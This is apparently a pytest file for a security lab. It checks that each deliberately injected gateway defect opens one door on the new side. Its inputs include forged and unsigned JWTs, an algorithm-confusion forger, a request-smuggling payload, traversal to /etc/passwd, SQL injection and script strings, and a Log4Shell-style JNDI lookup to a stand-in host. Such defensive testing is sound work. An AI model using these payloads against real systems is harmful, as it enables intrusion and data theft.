"""Each security defect opens (or shuts) its one door on the new side; without it both sides decide alike."""

import base64
import socket
import ssl
import warnings
from pathlib import Path
from typing import Any

import pytest
from cryptography.x509.oid import ExtendedKeyUsageOID

from harness.lab import keys as making
from harness.lab.catalogue import DEFECTS
from harness.lab.keys import Keys
from tests.unit.lab.asking import HOST, PARTNER, SHOP, Ask, Pairs, ask, bearer, signed, token

REPORT = "/partners/report"
PAGE = [("Origin", SHOP)]
PREFLIGHT = [*PAGE, ("Access-Control-Request-Method", "GET"), ("Access-Control-Request-Headers", "authorization")]
ATTACK = "${${lower:j}ndi:ldap://cutover-probe.invalid/a}"


def _key(value: str) -> Pairs:
    return [("x-api-key", value)]


def _basic(text: str) -> Pairs:
    return [("Authorization", "Basic " + base64.b64encode(text.encode()).decode())]


def _confused(keys: Keys, _: str) -> Pairs:
    import hashlib
    import hmac

    head = base64.urlsafe_b64encode(b'{"alg":"HS256","kid":"lab-1"}').rstrip(b"=").decode()
    signed_part = f"{head}.{token(keys).split('.')[1]}"
    mac = hmac.new(keys.issuer_public, signed_part.encode(), hashlib.sha256).digest()
    return [("Authorization", f"Bearer {signed_part}.{base64.urlsafe_b64encode(mac).rstrip(b'=').decode()}")]


def _tampered(keys: Keys, _: str) -> Pairs:
    head, _, signature = token(keys).split(".")
    return [("Authorization", f"Bearer {head}.{token(keys, sub='other').split('.')[1]}.{signature}")]


def _stripped(keys: Keys, _: str) -> Pairs:
    return [("Authorization", f"Bearer {token(keys).rpartition('.')[0]}.")]


def _twice(keys: Keys, _: str) -> Pairs:
    return [("Authorization", "Bearer a.b.c"), ("Authorization", f"Bearer {token(keys)}")]


def _of_nobody(keys: Keys, _: str) -> Pairs:
    return [("Authorization", f"Bearer {token(keys, kid='x', key=making.pem_of(keys.other))}")]


def accounts(made: Any) -> Ask:
    return Ask(path="/accounts", made=made)


ASKS: dict[str, Ask] = {
    "report-without-key": Ask(path=REPORT),
    "message-without-key": Ask(path="/partners/messages", method="POST", body=b"a=1"),
    "unknown-key-accepted": Ask(path=REPORT, headers=_key("nobody-has-this")),
    "empty-key-accepted": Ask(path=REPORT, headers=_key("")),
    "disabled-key-accepted": Ask(path=REPORT, headers=_key("lab-suspended-key-5e90")),
    "other-product-accepted": Ask(path=REPORT, headers=_key("lab-warehouse-key-93aa")),
    "key-in-query-accepted": Ask(path=f"{REPORT}?x-api-key=lab-partner-key-7d21"),
    "any-password-accepted": Ask(path="/stock", headers=_basic("warehouse:wrong")),
    "any-user-accepted": Ask(path="/stock", headers=_basic("nobody:lab-stock-password-51")),
    "any-feed-token-accepted": Ask(path="/feed?token=wrong"),
    "feed-token-in-header-accepted": Ask(path="/feed", headers=[("token", "lab-feed-token-0b9e")]),
    "old-key-refused": Ask(path=REPORT, headers=_key("lab-dealer-old-2f3b")),
    "key-header-renamed": Ask(path=REPORT, headers=PARTNER),
    "account-without-token": Ask(path="/accounts/A-1"),
    "write-by-readers": Ask(path="/accounts", method="POST", made=bearer(), body=b"{}"),
    "expired-token-accepted": accounts(bearer(exp=1)),
    "early-token-accepted": accounts(bearer(nbf=4_000_000_000, exp=4_000_000_300)),
    "any-audience-accepted": accounts(bearer(aud="other")),
    "any-issuer-accepted": accounts(bearer(iss="https://other.example")),
    "any-scope-accepted": accounts(bearer(scope="orders.read")),
    "unsigned-token-accepted": accounts(bearer(alg="none")),
    "algorithm-confused": accounts(_confused),
    "any-key-id-accepted": accounts(_of_nobody),
    "token-signature-unchecked": accounts(_tampered),
    "stripped-token-accepted": accounts(_stripped),
    "empty-bearer-accepted": accounts(lambda _, __: [("Authorization", "Bearer ")]),
    "second-authorization-counts": accounts(_twice),
    "ledger-without-signature": Ask(path="/ledger"),
    "ledger-by-tokens": Ask(path="/ledger", made=signed()),
    "any-signature-accepted": Ask(path="/ledger", made=signed(secret="wrong")),
    "stale-signature-accepted": Ask(path="/ledger", made=signed(ago=3_600)),
    "signed-body-unchecked": Ask(path="/ledger", method="POST", made=signed("POST", b'{"a":1}'), body=b'{"a":2}'),
    "certificate-not-needed": Ask(path="/vault"),
    "any-authority-accepted": Ask(path="/vault", certificate="stranger"),
    "expired-certificate-accepted": Ask(path="/vault", certificate="expired"),
    "certificate-not-asked-for": Ask(path="/vault"),
    "trace-answered": Ask(path=REPORT, method="TRACE", headers=PARTNER),
    "head-without-key": Ask(path=REPORT, method="HEAD"),
    "method-override-elsewhere": Ask(path=REPORT, method="OPTIONS", headers=[*PARTNER, ("X-Method-Override", "GET")]),
    "other-letters-taken": Ask(path="/PARTNERS/REPORT", headers=PARTNER),
    "other-letters-skip-key": Ask(path="/PARTNERS/REPORT"),
    "slash-skips-key": Ask(path=f"{REPORT}/"),
    "double-slash-skips-key": Ask(path=f"/{REPORT}"),
    "encoded-letter-taken": Ask(path="/%70artners/report", headers=PARTNER),
    "path-parameter-cut": Ask(path=f"{REPORT};x=1", headers=PARTNER),
    "dot-segment-taken": Ask(path=f"/.{REPORT}", headers=PARTNER),
    "encoded-slash-cut": Ask(path=f"{REPORT}%2f", headers=PARTNER),
    "nul-cut": Ask(path=f"{REPORT}%00", headers=PARTNER),
    "backslash-cut": Ask(path=f"{REPORT}\\", headers=PARTNER),
    "dots-climb": Ask(path=f"/pages/..{REPORT}"),
    "semicolon-climbs": Ask(path=f"/pages/..;{REPORT}"),
    "encoded-dots-climb": Ask(path=f"/pages/%2e%2e{REPORT}"),
    "twice-encoded-dots-climb": Ask(path=f"/pages/%252e%252e{REPORT}"),
    "encoded-slash-climbs": Ask(path="/pages%2f..%2fpartners/report"),
    "backslash-climbs": Ask(path="/pages\\..\\partners/report"),
    "every-method-taken": Ask(path="/ledger", method="DELETE", made=signed("DELETE")),
    "shorter-addresses-taken": Ask(path="/pages?" + "a" * 7_000),
    "any-host-accepted": Ask(path="/pages", headers=[("Host", "cutover-another-name.invalid")]),
    "smaller-headers-taken": Ask(path="/pages", headers=[("X-Padding", "a" * 9_000)]),
    "any-origin-reflected": Ask(path="/pages/mine", headers=[("Origin", "https://foreign.invalid")], made=bearer()),
    "null-origin-allowed": Ask(path="/pages/mine", headers=[("Origin", "null")], made=bearer()),
    "every-origin-allowed": Ask(path="/pages/mine", headers=[("Origin", "https://foreign.invalid")], made=bearer()),
    "origin-mistyped": Ask(path="/pages/mine", method="OPTIONS", headers=PREFLIGHT),
    "cors-credentials-refused": Ask(path="/pages/mine", headers=PAGE, made=bearer()),
    "cors-header-refused": Ask(path="/pages/mine", method="OPTIONS", headers=PREFLIGHT),
    "cors-lost-on-errors": Ask(path="/pages/mine", headers=PAGE),
    **dict.fromkeys(
        (
            "hsts-lost", "nosniff-lost", "frame-policy-lost", "cookie-readable", "cookie-in-the-clear",
            "cookie-sent-across-sites", "software-named",
        ),
        Ask(path="/pages"),
    ),
    "firewall-off": Ask(path="/pages?q=%27%20OR%20%271%27=%271"),
    "firewall-skips-query": Ask(path="/pages?q=../../../etc/passwd"),
    "firewall-skips-headers": Ask(path="/pages", headers=[("X-Probe", "${jndi:ldap://cutover-probe.invalid/a}")]),
    "firewall-skips-bodies": Ask(
        path="/accounts", method="POST", made=bearer(scope="accounts.write"), body=b'{"owner": "<script>a()</script>"}'
    ),
    "firewall-misled": Ask(path="/pages", headers=[("X-Probe", ATTACK)]),
    "direct-open": Ask(path=REPORT, headers=PARTNER, door="direct"),
    "backend-open": Ask(path=REPORT, door="closed_backend"),
}  # fmt: skip

OTHERWISE = {
    "two-lengths-accepted", "port-open", "not-throttled", "throttled-early", "throttled-together", "tls-1.0-accepted",
    "tls-1.1-accepted", "server-certificate-expired", "server-certificate-self-signed",
    "server-certificate-for-another-name", "server-key-weak", "plain-http-answered",
}  # fmt: skip


@pytest.fixture(scope="module")
def certificates(labs: Any, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Make client certificates that must not get in."""
    folder = tmp_path_factory.mktemp("clients")
    purpose = ExtendedKeyUsageOID.CLIENT_AUTH
    parties = {
        "stranger": making._signed("machine", making._authority("Lab client authority"), purpose),
        "expired": making._signed("machine", labs.keys.client_ca, purpose, ended=True),
    }
    for name, party in parties.items():
        (folder / f"{name}.pem").write_bytes(party.pem + party.key_pem)
    return {name: str(folder / f"{name}.pem") for name in parties}


def _with_certificate(one: Ask, certificates: dict[str, str]) -> Ask:
    from dataclasses import replace

    return replace(one, certificate=certificates.get(one.certificate, one.certificate))


def test_every_defect_has_a_test() -> None:
    names = {defect.name for defect in DEFECTS if defect.suite == "security" and not defect.harmless}
    assert ASKS.keys() | OTHERWISE == names


@pytest.mark.parametrize("name", ASKS)
def test_it_changes_the_new_side_alone(labs: Any, certificates: dict[str, str], name: str) -> None:
    one = _with_certificate(ASKS[name], certificates)
    clean = ask(labs, "", "new", one)
    if not one.door:
        old = ask(labs, "", "old", one)
        assert old.refused == clean.refused, (old, clean)
        assert ask(labs, name, "old", one).look() == old.look()
    assert ask(labs, name, "new", one).look() != clean.look()


def _connects(port: int) -> bool:
    with socket.socket() as made:
        return made.connect_ex((HOST, port)) == 0


def test_ports_are_shut_unless_somebody_left_one_open(labs: Any) -> None:
    clean = labs.ports()
    assert not any(map(_connects, (clean.closed, clean.old_plain, clean.new_plain)))
    assert _connects(labs.ports("port-open").closed)
    assert not _connects(labs.ports("port-open").new_plain)


def _raw(labs: Any, port: int, data: bytes) -> bytes:
    with labs.context().wrap_socket(socket.create_connection((HOST, port), 10), server_hostname=HOST) as made:
        made.sendall(data)
        found = b""
        while piece := made.recv(65_536):
            found += piece
        return found


def test_a_request_of_two_lengths_is_refused_and_nothing_after_it_is_read(labs: Any) -> None:
    hidden = b"GET /pages HTTP/1.1\r\nHost: 127.0.0.1:1\r\nConnection: close\r\n\r\n"
    head = b"POST /x HTTP/1.1\r\nHost: 127.0.0.1:1\r\nTransfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n"
    data = head % (len(hidden) + 5) + b"0\r\n\r\n" + hidden
    for port in (labs.ports().old_tls, labs.ports().new_tls):
        answer = _raw(labs, port, data)
        assert answer.startswith(b"HTTP/1.1 400")
        assert answer.count(b"HTTP/1.1 ") == 1
    assert _raw(labs, labs.ports("two-lengths-accepted").new_tls, data).count(b"HTTP/1.1 ") == 2


def _burst(labs: Any, name: str, side: str, *keys: str) -> list[int]:
    """Return the statuses of many quick calls by a caller, or by several in turn."""
    callers = keys or ("lab-metered-key-1c44",)
    asks = [Ask(path="/partners/metered", headers=_key(callers[n % len(callers)])) for n in range(30)]
    return [ask(labs, name, side, one).status for one in asks]


def test_bursts(labs: Any) -> None:
    for side in ("old", "new"):
        statuses = _burst(labs, "", side)
        assert statuses[:10] == [200] * 10
        assert set(statuses) == {200, 429}
    assert set(_burst(labs, "not-throttled", "new")) == {200}
    early = _burst(labs, "throttled-early", "new")
    assert early[:3] == [200] * 3
    assert 429 in early[:8]


def test_a_burst_leaves_others_alone_unless_there_is_one_counter(labs: Any) -> None:
    both = ("lab-metered-key-1c44", "lab-partner-key-7d21")
    assert set(_burst(labs, "", "new", *both)[1::2]) == {200}
    assert 429 in _burst(labs, "throttled-together", "new", *both)[1::2]


def _speaks(labs: Any, port: int, version: ssl.TLSVersion) -> bool:
    context = labs.context(trusting=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        context.minimum_version = context.maximum_version = version
    context.set_ciphers("ALL:@SECLEVEL=0")
    try:
        with context.wrap_socket(socket.create_connection((HOST, port), 10)):
            return True
    except ssl.SSLError:
        return False


@pytest.mark.skipif(not ssl.HAS_TLSv1, reason="this OpenSSL has no TLS 1.0")
@pytest.mark.parametrize(
    ("name", "first", "second"),
    [("", False, False), ("tls-1.0-accepted", True, True), ("tls-1.1-accepted", False, True)],
)
def test_old_versions_of_tls(labs: Any, name: str, first: bool, second: bool) -> None:
    port = labs.ports(name).new_tls
    assert _speaks(labs, port, ssl.TLSVersion.TLSv1) is first
    assert _speaks(labs, port, ssl.TLSVersion.TLSv1_1) is second
    assert _speaks(labs, port, ssl.TLSVersion.TLSv1_2)
    assert not _speaks(labs, labs.ports(name).old_tls, ssl.TLSVersion.TLSv1_1)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("server-certificate-expired", "certificate has expired"),
        ("server-certificate-self-signed", "self.signed certificate"),
        ("server-certificate-for-another-name", "IP address mismatch"),
    ],
)
def test_certificates_that_clients_refuse(labs: Any, name: str, words: str) -> None:
    assert ask(labs, "", "new", Ask(path="/pages")).status == 200
    with pytest.raises(ssl.SSLCertVerificationError, match=words):
        ask(labs, name, "new", Ask(path="/pages"))
    assert ask(labs, name, "old", Ask(path="/pages")).status == 200


def test_a_small_key_is_one(labs: Any) -> None:
    from cryptography import x509

    context = labs.context(trusting=True)
    context.set_ciphers("ALL:@SECLEVEL=0")
    with context.wrap_socket(socket.create_connection((HOST, labs.ports("server-key-weak").new_tls), 10)) as made:
        shown = made.getpeercert(binary_form=True)
    assert shown is not None
    assert x509.load_der_x509_certificate(shown).public_key().key_size == 1_024  # type: ignore[union-attr]


def _plain(port: int, path: str = "/pages") -> tuple[int, str | None]:
    import http.client

    connection = http.client.HTTPConnection(HOST, port, timeout=10)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        response.read()
        return response.status, response.getheader("Location")
    finally:
        connection.close()


def test_plain_http_is_shut_answered_or_redirected(labs: Any) -> None:
    assert _plain(labs.ports("plain-http-answered").new_plain) == (200, None)
    redirected = labs.ports("plain-http-redirected")
    assert _plain(redirected.new_plain) == (307, f"https://{HOST}:{redirected.new_tls}/pages")


def test_harmless_changes_let_nobody_in(labs: Any) -> None:
    for name, one, statuses in (
        ("refused-by-403", accounts(bearer(exp=1)), (401, 403)),
        ("other-block-page", ASKS["firewall-off"], (403, 403)),
        ("larger-requests-taken", Ask(path="/pages", headers=[("X-Padding", "a" * 12_000)]), (431, 200)),
        ("preflight-lists-more", Ask(path="/pages/mine", method="OPTIONS", headers=PREFLIGHT), (200, 200)),
    ):
        clean, changed = ask(labs, "", "new", one), ask(labs, name, "new", one)
        assert (clean.status, changed.status) == statuses
        assert (clean.body, clean.headers) != (changed.body, changed.headers)


def test_the_folder_of_keys_is_for_its_owner_alone(labs: Any) -> None:
    files = Path(labs.ports().files)
    assert files.stat().st_mode & 0o077 == 0
    assert {file.name for file in files.iterdir()} >= {
        "issuer.pem",
        "issuer.pub.pem",
        "ca.pem",
        "client-ca.key",
        "machine.pem",
    }
    assert all(file.stat().st_mode & 0o077 == 0 for file in files.iterdir())
